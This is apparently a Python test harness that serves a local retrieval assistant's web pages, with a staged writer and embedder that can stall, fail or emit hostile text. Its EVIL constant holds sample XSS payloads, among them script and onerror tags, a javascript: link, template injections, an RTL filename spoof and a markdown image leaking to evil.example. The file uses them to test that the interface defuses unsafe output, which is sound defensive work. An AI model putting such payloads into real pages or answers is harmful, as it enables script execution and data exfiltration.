"""Serves the page to the tests, with a writer and an embedder that can be held up, fail, or say something evil.

Two pages over one index: ``home`` as a user starts it, ``away`` with a password and with conversations on disk. The
first line printed is their addresses. After that, each line of standard input is a command, answered by one line:
``release`` lets what is held go on, ``restart`` ends both pages and starts them again at the same ports.
"""

from __future__ import annotations

import sys
import threading
from collections.abc import Iterator, Sequence
from pathlib import Path
from urllib.parse import urlsplit

from assistant import Assistant, Settings
from assistant.answering.writers.extractive import ExtractiveWriter
from assistant.errors import OllamaUnreachableError
from assistant.models.minilm import MiniLM
from assistant.ports import Embedding, Vectors
from assistant.types import Delta, Draft, GenerationInfo, Plan, Quotation, Span
from assistant.web.serve import serving

EVIL = (
    "<script>window.evil=1</script><img src=x onerror='window.evil=1'>![x](http://evil.example/leak?q=1) "
    "[click](javascript:window.evil=1) `${window.evil=1}` {{value}} $$x$$ \u202egnp.exe"
)
"""What a model may come up with."""


HELD = "hold here"
"""An embedder that meets these words, and a writer that is asked with them, waits for the command ``release``."""

released = threading.Event()


class Staged:
    """``ports.Writer``: the extractive one, unless the question says how it is to behave."""

    name = "staged"

    def __init__(self) -> None:
        self._inner = ExtractiveWriter()

    def write(self, plan: Plan) -> Iterator[Draft | Quotation | Delta | GenerationInfo]:
        """``hold here``: waits after the first sentence; ``evil``: a model's own words; ``fail``, ``break``: errors."""
        question = plan.question.lower()
        if "fail" in question:
            raise OllamaUnreachableError("No server answers for '/srv/someone/secret/model'. `ollama serve`")
        if "break" in question:
            raise RuntimeError("a bug in /srv/someone/secret/code.py")
        if "evil" in question:
            first = plan.quotations[0].best
            yield GenerationInfo(model="staged-model")
            yield Draft(text=f"{first.text} [1] ")
            yield Draft(text=f"The moon is made of green cheese, says {EVIL}.")
            return
        released.clear()
        for number, draft in enumerate(self._inner.write(plan)):
            while number and HELD in question and not released.wait(0.05):
                yield Delta(text="", verified=False, kind="waiting")
            yield draft
        while HELD in question and not released.wait(0.05):
            yield Delta(text="", verified=False, kind="waiting")


class HeldEmbedder:
    """``ports.Embedder``: MiniLM, which can be held up while it embeds a document."""

    def __init__(self) -> None:
        self._inner = MiniLM.open()

    @property
    def fingerprint(self) -> str:
        """That of MiniLM."""
        return self._inner.fingerprint

    def embed_documents(self, texts: Sequence[str], parts: Sequence[Sequence[Span]]) -> list[Embedding]:
        """Vectors of MiniLM, once released."""
        if any(HELD in text for text in texts):
            released.clear()
            released.wait()
        return self._inner.embed_documents(texts, parts)

    def embed_query(self, text: str) -> Vectors:
        """The vector of MiniLM."""
        return self._inner.embed_query(text)


def main(index_dir: str, password: str, *documents: str) -> None:
    """Serve until standard input ends."""
    settings = Settings(index_dir=Path(index_dir))
    assistant = Assistant.open(settings, writer=Staged(), embedder=HeldEmbedder())
    for folder in documents:
        assistant.index(folder)
    on_disk = assistant.with_settings(conversations="disk")

    def pages(*ports: int) -> Iterator[list[str]]:
        with serving(assistant, port=ports[0]) as home, serving(on_disk, "0.0.0.0", ports[1], password) as away:  # noqa: S104
            yield [home, away]

    served = pages(0, 0)
    addresses = next(served)
    _tell(" ".join(addresses))
    for command in sys.stdin:
        if command.strip() == "restart":
            served.close()  # type: ignore[attr-defined]  # it is a generator
            served = pages(*(urlsplit(address).port or 0 for address in addresses))
            next(served)
        else:
            released.set()
        _tell(command.strip())


def _tell(line: str) -> None:
    print(line, flush=True)  # noqa: T201 - how the tests hear of it


if __name__ == "__main__":
    main(*sys.argv[1:])
